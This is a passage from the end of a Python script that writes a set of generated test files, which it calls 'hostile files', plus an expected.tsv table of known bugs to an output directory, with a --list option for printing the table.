                                c.known_bug.replace("\t", " ") or "-"]))
    return "\n".join(lines) + "\n"


def generate(outdir) -> list:
    outdir = Path(outdir)
    outdir.mkdir(parents=True, exist_ok=True)
    cases = build_cases()
    for c in cases:
        (outdir / c.name).write_bytes(c.data)
    (outdir / "expected.tsv").write_text(expected_table(cases))
    return cases


def main(argv):
    if argv[1:] == ["--list"]:
        sys.stdout.write(expected_table(build_cases()))
        return 0
    if len(argv) != 2:
        sys.stderr.write(__doc__)
        return 2
    cases = generate(argv[1])
    print(f"wrote {len(cases)} hostile files and expected.tsv to {argv[1]}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv))
